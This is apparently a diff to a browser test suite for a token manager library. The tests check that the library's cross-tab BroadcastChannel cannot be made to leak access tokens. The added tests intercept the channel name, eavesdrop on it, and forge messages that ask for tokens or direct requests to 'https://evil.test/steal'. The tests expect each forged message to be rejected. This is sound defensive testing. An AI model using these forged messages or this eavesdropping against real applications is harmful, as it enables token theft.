@@ -79,8 +79,6 @@ function tap() {
     note('parse', text)
     return parse(text, ...more)
   }
-  // What any script of the origin hears.
-  globalThis.listen = (name) => (new BroadcastChannel(name).onmessage = () => {})
 }
 
 for (const home of HOMES) {
@@ -168,6 +166,28 @@ for (const home of HOMES) {
     const prepare = (page) => page.addInitScript(tap)
     const page = await signedIn(user, {}, prepare)
     const other = await user.tab({ isolation: home }, prepare)
+    // The channel is no secret: a manager of the page's own has the same one.
+    const channels = await page.evaluate(async () => {
+      const Channel = BroadcastChannel
+      const names = []
+      globalThis.BroadcastChannel = class extends Channel {
+        constructor(name) {
+          super(name)
+          names.push(name)
+        }
+      }
+      const { createTokenManager } = await import('/tokenkeep/index.js')
+      const made = createTokenManager({ refresh: '/auth/refresh', tabs: 'lock', restore: 'manual' })
+      await made.ready
+      made.dispose()
+      globalThis.ears = names.map((name) => {
+        const ear = new Channel(name)
+        ear.onmessage = () => {}
+        return ear
+      })
+      return names
+    })
+    assert.equal(channels.length, 1)
     await server.revoke()
     await page.evaluate(() => calls(5))
     await other.evaluate(() => calls(5))
@@ -182,6 +202,7 @@ for (const home of HOMES) {
     const seen = [...(await page.evaluate(() => crossed)), ...(await other.evaluate(() => crossed))]
     assert.ok(seen.some((line) => line.includes('kind=response')), 'the tap hears what crosses')
     assert.ok(seen.some((line) => line.includes('kind=hello')), 'the tap hears what is sent')
+    assert.ok(seen.some((line) => line.includes('tokenkeep=')), 'the ear hears the channel')
     await server.faults()
     // The signature of any token, for those that the driver cannot read.
     for (const line of seen) {
@@ -412,6 +433,7 @@ for (const home of HOMES) {
       forge({ kind: 'call', id: 901, method: 'peekAccessToken' })
       forge({ kind: 'call', id: 902, method: 'constructor' })
       forge({ kind: 'fetch', id: 903, request: { url: 'https://evil.test/steal', init: { method: 'GET', headers: [] } } })
+      forge({ kind: 'call', id: 905, method: 'exchange', request: { url: 'https://evil.test/steal', init: { method: 'POST', headers: [] } } })
       forge({ kind: 'fetch', id: 904, request: { url: `${location.origin}/auth/refresh`, init: { method: 'POST', headers: [] } } })
       forge({ kind: 'facts', facts: { cookies: { __proto__: { x: 1 } }, controlled: true, visible: true } })
       for (const odd of [null, 1, 'x', {}, { kind: 'fetch' }, { kind: 'body' }, { kind: 'marks' }]) forge(odd)
@@ -431,7 +453,7 @@ for (const home of HOMES) {
     assert.deepEqual(heard.answers, home === 'worker' ? [] : [['failed', 'invalid-option']])
     for (const line of heard.heard) assert.doesNotMatch(line, /"new"/)
     const errors = heard.heard.map((line) => JSON.parse(line)).filter(({ id }) => id >= 900)
-    assert.deepEqual(errors.map(({ id, kind }) => [id, kind]), [[903, 'error'], [904, 'error'], [900, 'done'], [901, 'done'], [902, 'done']].sort((a, b) => a[0] - b[0]).sort((a, b) => errors.findIndex(({ id }) => id === a[0]) - errors.findIndex(({ id }) => id === b[0])))
-    assert.deepEqual([...new Set(errors.map(({ value }) => value))], [undefined])
+    const told = errors.map(({ id, kind, error, value }) => [id, kind, error?.code ?? value])
+    assert.deepEqual(told.sort(([one], [other]) => one - other), [[900, 'done', undefined], [901, 'done', undefined], [902, 'done', undefined], [903, 'error', 'invalid-argument'], [904, 'error', 'invalid-argument'], [905, 'error', 'invalid-argument']])
   })
 }
